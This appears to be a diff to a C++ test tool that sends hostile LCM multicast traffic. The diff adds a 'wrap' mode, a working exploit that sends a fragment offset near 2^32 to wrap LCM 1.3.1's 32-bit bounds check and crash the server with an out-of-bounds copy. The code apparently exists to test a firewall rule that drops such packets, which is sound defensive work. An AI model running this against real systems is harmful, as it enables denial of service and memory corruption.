@@ -9,6 +9,8 @@
 //          from many ports and complete 6.6 MB messages, as fast as it can; prints what it sent
 //   fill --group G --port P --count MB              every fragment but the last of one MB-sized
 //          message (what LCM's reassembly holds for one sender)
+//   wrap --group G --port P                         a fragment whose offset wraps LCM 1.3.1's
+//          32-bit bounds check (deploy/lcm-guard.nft drops it)
 #include <arpa/inet.h>
 #include <netinet/in.h>
 #include <sys/socket.h>
@@ -285,6 +287,19 @@ int Fill(const std::string& group, int port, int megabytes) {
   return 0;
 }
 
+// LCM 1.3.1 checks a fragment with `fragment_offset + size > data_size` in 32 bits: an offset near
+// 2^32 wraps the sum and the copy lands 4 GB past the reassembly buffer (the server dies with
+// SIGSEGV). Two datagrams: a first fragment, then one at offset 2^32 - 256.
+int Wrap(const std::string& group, int port) {
+  Sender tx(group, port);
+  const Bytes data(1024, 0x42);
+  tx.Datagram(Sender::FragmentBytes(99, 1u << 20, 0, 0, 20, kFrameChannel, data.data(), 100));
+  std::this_thread::sleep_for(std::chrono::milliseconds(50));
+  tx.Datagram(Sender::FragmentBytes(99, 1u << 20, 0xffffff00u, 1, 20, "", data.data(), data.size()));
+  std::printf("wrap_fragments=2\n");
+  return 0;
+}
+
 int Flood(const std::string& group, int port, double seconds) {
   Sender tx(group, port);
   // LCM keeps one reassembly buffer per sender address: many ports, many dangling messages.
@@ -352,6 +367,7 @@ int main(int argc, char** argv) {
   if (mode == "attack") return vd::Attack(group, port, source, earlier, current);
   if (mode == "flood") return vd::Flood(group, port, seconds);
   if (mode == "fill") return vd::Fill(group, port, count);
+  if (mode == "wrap") return vd::Wrap(group, port);
   std::fprintf(stderr, "vd_hostile_publisher: unknown mode '%s'\n", mode.c_str());
   return 2;
 }
